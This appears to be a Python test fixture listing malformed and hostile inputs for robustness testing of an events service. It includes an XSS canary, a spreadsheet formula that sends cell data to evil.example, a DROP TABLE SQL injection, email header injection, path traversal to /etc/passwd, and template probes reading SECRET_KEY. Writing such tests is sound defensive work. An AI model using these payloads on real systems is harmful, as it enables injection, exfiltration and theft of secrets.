"""What nobody types by mistake: the inputs that other people's services fell over."""

CANARY = """<script>canary("'")</script><img src=x onerror='canary(1)'>"""
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Your place")'

WORDS = {
    "nothing": "",
    "blanks": " \t\u00a0\u2003",
    "ten thousand letters": "x" * 10_000,
    "ten thousand marks": "e" + "\u0301" * 10_000,
    "nul": "Anna\x00Kalniņa",
    "control": "Anna\x07\x1b[31m\x7f",
    "line breaks": "Anna\r\nBcc: everybody@example.org\r\n\r\nHello",
    "right to left": "\u202egnp.exe\u2066\u200f",
    "separators": "anna@exam\u2028ple.eu",
    "lone surrogate": b"\\ud800".decode("unicode_escape").encode("utf-8", "surrogatepass"),
    "emoji": "👩‍👩‍👧‍👦🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "script": CANARY,
    "template": "{{ settings.SECRET_KEY }}{% debug %}${7*7}<%= 7*7 %>",
    "formula": FORMULA,
    "quotes": "'; DROP TABLE events_event; --\"",
    "path": "../../../../etc/passwd%00",
    "huge number": "9" * 40,
    "negative": "-1",
    "not a number": "NaN",
    "exponent": "1e400",
    "arabic digits": "٣١",
    "nonsense day": "2026-02-30",
    "year ten thousand": "10000-13-45T25:61",
    "an hour that does not exist": "2026-03-29 02:30",
    "not an uuid": "00000000-0000-0000-0000-00000000000g",
    "another's uuid": "00000000-0000-4000-8000-000000000000",
    "address like": "a@b@c.example, d@e.example",
    "long domain": f"anna@{'ä' * 60}.example",
}

STORED = {
    "ten thousand letters", "ten thousand marks", "nul", "control", "lone surrogate", "emoji",
    "quotes", "huge number", "negative", "exponent", "another's uuid", "year ten thousand",
}  # fmt: skip
"""What one database may take and another not; of the rest one engine is asked."""
